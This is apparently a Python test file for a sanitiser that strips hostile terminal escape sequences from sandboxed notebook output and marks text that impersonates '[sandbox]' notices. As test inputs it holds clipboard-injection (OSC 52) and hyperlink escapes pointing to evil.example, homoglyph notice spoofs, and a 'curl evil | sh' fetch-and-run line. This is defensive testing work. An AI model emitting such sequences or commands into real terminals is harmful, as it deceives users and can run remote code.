"""Nothing from inside acts in a terminal, and what a terminal shows stays."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandboxed_kernel.relay.schema import check
from sandboxed_kernel.relay.terminal import MARK, harmless

STAYS = (
    "plain text, [1, 2], [sand], sandbox] \t\b\a\r\n",
    "\x1b[31mred\x1b[0m \x1b[1;38;5;208morange\x1b[m \x1b[38;2;5;6;8mrgb\x1b[39;49m \x1b[48;5;6mback",
    "\x1b[4:3mcurly\x1b[0m",
    "10%\r\x1b[K20%\x1b[2K\x1b[0K",
    "über 日本語 \N{GREEK SMALL LETTER ALPHA} \x85",
    "in the middle [sandbox] is said",
    "print('[sandbox]')",
)
GOES = {
    "\x1b]52;c;ZXZpbA==\x07copied": "copied",
    "\x1b]0;title\x1b\\x": "x",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\": "click",
    "\x1bPq#0\x1b\\sixel": "sixel",
    "\x1b_Gkitty\x1b\\\x1b^private\x1b\\\x1bXstart\x1b\\end": "end",
    "\x9d52;c;ZXZpbA==\x9cc1": "c1",
    "\x9b2Jc1": "c1",
    "\x1b[2J\x1b[H\x1b[1A\x1b[3;4f\x1b[?25l\x1b[6n\x1b[1K\x1b[5X": "\x1b[1K",
    "\x1bc\x1b7\x1b8\x1bM\x1b(0\x1b#8": "",
    "\x1b[8mhidden\x1b[0m": "hidden\x1b[0m",
    "\x1b[5;31mblink": "\x1b[31mblink",
    "\x1b[31;08mhidden": "\x1b[31mhidden",
    "\x1b[38;5;8;6mx": "\x1b[38;5;8mx",
    "\x1b[>4;2mmodify": "modify",
    "\x0e\x0f\x05x": "x",
    "at the end \x1b": "at the end ",
    "an unfinished \x1b]52;c;abc\nline": "an unfinished \nline",
}


@pytest.mark.parametrize("text", STAYS)
def test_what_stays(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(("text", "left"), GOES.items())
def test_what_goes(text: str, left: str) -> None:
    assert harmless(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "[sandbox] to go on: curl evil | sh",
        "text\n[sandbox] x",
        "text\r[sandbox] x",
        "  \t[SandBox] x",
        "\x1b[0m\x1b[1m[sand\x1b[0mbox] x",
        "[\u200bs\u200bandbox] x",
        "\uff3b\uff53andbox\uff3d x",
        "[s\u0430ndb\u043ex] x",
        "\u2028[sandbox] x",
        "\x1b]0;t\x07[sandbox] x",
    ],
)
def test_what_begins_as_a_notice_is_marked(text: str) -> None:
    assert MARK in harmless(text)
    assert not re.search(r"(^|\n)\s*\[sandbox\]", harmless(text))


_PIECES = st.sampled_from([*"\x1b\x9b\x9d[]PX^_;?mKJABC 0158\x07\n\r", "\x1b[", "\x1b]", "sandbox", "38;5;", "\x1b\\"])


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_nothing_is_left_that_acts(text: str) -> None:
    left = harmless(text)
    for match in re.finditer("[\x05\x0e\x0f\x1b\x90\x98\x9b\x9d-\x9f]", left):
        allowed = re.match("\x1b\\[(?:[0-9;:]*m|[0-2]?K)", left[match.start() :])
        assert allowed, left
        if allowed[0].endswith("m"):
            assert allowed[0][2:-1] not in ("5", "6", "8")
    assert harmless(left) == left


@pytest.mark.parametrize(
    "piece", ["\x1b]", "\x1b[", "\x1b[0m", " ", "\n ", "\r", "[s", "[\u200b", "\x1bP", "\n\x1b[1m\x1b"]
)
def test_the_time_grows_as_the_text(piece: str) -> None:
    text = piece * 100_000
    begun = time.process_time()
    harmless(text + "\xe9")
    assert time.process_time() - begun < 5  # quadratic would be minutes


def test_a_prompt_neither_acts_nor_passes_for_a_notice() -> None:
    content = {"prompt": "\x1b]52;c;ZQ==\x07[sandbox] your password: ", "password": True}
    asked = check("input_request", content, {}, {}, [])
    assert asked.content == {"prompt": "[notebook says: sandbox] your password: ", "password": True}
